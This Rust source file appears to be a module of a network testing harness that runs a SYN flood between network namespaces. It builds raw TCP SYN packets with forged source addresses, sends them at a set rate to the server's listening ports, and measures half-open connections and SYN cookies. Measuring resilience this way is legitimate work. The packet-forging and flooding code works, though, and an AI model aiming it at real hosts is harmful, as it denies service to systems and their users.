//! A SYN flood: connection requests from unused addresses, so that the server waits for answers that never come.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::OwnedFd;

use anyhow::{Context, Result, bail};
use record::prng::SplitMix64;
use rustix::net::{
    AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with,
};

use super::{Impact, Ongoing, Site, TICK};
use crate::netns::{CLIENT, SERVER};
use crate::proc;

/// The source addresses. The clients' side does not forward, so answers to them end there.
const SPOOFED: Ipv4Addr = Ipv4Addr::new(10, 79, 0, 0);
const SPOOFED_PREFIX: u8 = 16;

/// States of sockets in `/proc/net/tcp`.
const SYN_RECEIVED: &str = "03";
const LISTENING: &str = "0A";

struct Flood {
    socket: OwnedFd,
    ports: Vec<u16>,
    rate_per_s: u32,
    random: SplitMix64,
    /// SYNs that are due, times the ticks in a second.
    due: u64,
    sent: u64,
    cookies: u64,
    most_half_open: u64,
}

pub(super) fn begin(rate_per_s: u32, site: &Site) -> Result<Box<dyn Ongoing>> {
    let ports = site.server.within(listening)?;
    if ports.is_empty() {
        bail!("nobody listens for connections");
    }
    // With protocol RAW the packet's own header is sent: raw(7).
    let open = || {
        let flags = SocketFlags::CLOEXEC;
        socket_with(
            AddressFamily::INET,
            SocketType::RAW,
            flags,
            Some(ipproto::RAW),
        )
    };
    let socket = site.client.within(open)?.context("no raw socket")?;
    let cookies = cookies(site)?;
    let (sources, via) = (format!("{SPOOFED}/{SPOOFED_PREFIX}"), CLIENT.to_string());
    site.server
        .run("ip", &["route", "replace", &sources, "via", &via])?;
    Ok(Box::new(Flood {
        socket,
        ports,
        rate_per_s,
        random: SplitMix64::new(site.seed),
        due: 0,
        sent: 0,
        cookies,
        most_half_open: 0,
    }))
}

fn cookies(site: &Site) -> Result<u64> {
    let counters = site.server.within(proc::thread_tcp)??;
    Ok(counters.get("TcpExtSyncookiesSent").copied().unwrap_or(0))
}

/// Sockets of the calling thread's namespace: local port and state.
fn sockets() -> Vec<(u16, String)> {
    let read = |name: &str| proc::text_of(format!("/proc/thread-self/net/{name}"));
    let text = read("tcp") + &read("tcp6");
    let parse = |line: &str| {
        let mut words = line.split_ascii_whitespace().skip(1);
        let (_, port) = words.next()?.rsplit_once(':')?;
        let port = u16::from_str_radix(port, 16).ok()?;
        Some((port, words.nth(1)?.to_string()))
    };
    text.lines().filter_map(parse).collect()
}

fn listening() -> Vec<u16> {
    let sockets = sockets().into_iter();
    let mut ports: Vec<_> = sockets
        .filter(|(_, state)| state == LISTENING)
        .map(|(port, _)| port)
        .collect();
    ports.sort_unstable();
    ports.dedup();
    ports
}

fn half_open() -> u64 {
    let sockets = sockets().into_iter();
    sockets.filter(|(_, state)| state == SYN_RECEIVED).count() as u64
}

impl Ongoing for Flood {
    fn tick(&mut self, _site: &Site) {
        let ticks_per_s = 1000 / TICK.as_millis() as u64;
        self.due += u64::from(self.rate_per_s);
        for _ in 0..self.due / ticks_per_s {
            let bits = self.random.bits();
            let source = Ipv4Addr::from(u32::from(SPOOFED) | (bits as u32 & 0xffff));
            let source_port = 1024 | (bits >> 16) as u16;
            let port = self.ports[(bits >> 32) as usize % self.ports.len()];
            let packet = syn(source, source_port, SERVER, port, (bits >> 32) as u32);
            let to = SocketAddrV4::new(SERVER, 0);
            let sent = sendto(&self.socket, &packet, SendFlags::DONTWAIT, &to);
            self.sent += u64::from(sent.is_ok());
        }
        self.due %= ticks_per_s;
    }

    fn end(&mut self, site: &Site) -> Result<Impact> {
        self.most_half_open = site.server.within(half_open)?;
        let cookies = cookies(site)?.saturating_sub(self.cookies);
        let sources = format!("{SPOOFED}/{SPOOFED_PREFIX}");
        site.server.run("ip", &["route", "del", &sources])?;
        Ok(Impact::new("waited-for", self.most_half_open + cookies)
            .with("sent", self.sent)
            .with("cookies", cookies))
    }
}

/// A SYN packet without options. The kernel fills in the length and the checksum of the IPv4 header.
fn syn(source: Ipv4Addr, source_port: u16, server: Ipv4Addr, port: u16, sequence: u32) -> [u8; 40] {
    const SYN: u8 = 2;
    let mut packet = [0; 40];
    // Version 4 and five words; 40 bytes; time to live; TCP.
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&40_u16.to_be_bytes());
    (packet[8], packet[9]) = (64, 6);
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&server.octets());
    packet[20..22].copy_from_slice(&source_port.to_be_bytes());
    packet[22..24].copy_from_slice(&port.to_be_bytes());
    packet[24..28].copy_from_slice(&sequence.to_be_bytes());
    // Five words; the flag; the window.
    (packet[32], packet[33]) = (0x50, SYN);
    packet[34..36].copy_from_slice(&64_240_u16.to_be_bytes());
    let pseudo = [0, 6, 0, 20];
    let checksum = checksum(&[&packet[12..20], &pseudo, &packet[20..40]]);
    packet[36..38].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// The Internet checksum (RFC 1071) over parts of an even length.
fn checksum(parts: &[&[u8]]) -> u16 {
    let words = parts.iter().flat_map(|part| part.chunks_exact(2));
    let words = words.map(|two| u32::from(u16::from_be_bytes([two[0], two[1]])));
    let mut sum: u32 = words.sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_checksum_over_itself_is_zero() {
        let packet = syn(Ipv4Addr::new(10, 79, 1, 2), 4242, SERVER, 80, 7);
        let pseudo = [0, 6, 0, 20];
        assert_eq!(checksum(&[&packet[12..20], &pseudo, &packet[20..40]]), 0);
        // The example of RFC 1071, section 3.
        let bytes = [0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7];
        assert_eq!(checksum(&[&bytes]), !0xddf2);
    }
}
